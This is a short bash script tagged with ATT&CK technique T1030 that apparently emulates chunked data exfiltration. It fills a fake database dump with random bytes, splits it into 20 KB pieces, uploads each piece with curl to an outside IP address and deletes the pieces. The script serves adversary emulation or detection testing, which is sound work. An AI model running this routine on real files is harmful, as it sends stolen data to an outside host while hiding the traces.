#!/bin/bash
# T1030: A big file goes in small pieces.
head -c 200000 /dev/urandom >/srv/app/db.dump; mkdir /tmp/c; split -b 20k /srv/app/db.dump /tmp/c/p; for f in /tmp/c/*; do curl -s --data-binary @$f http://44.128.66.66/c; sleep 0.05; done; rm -r /tmp/c
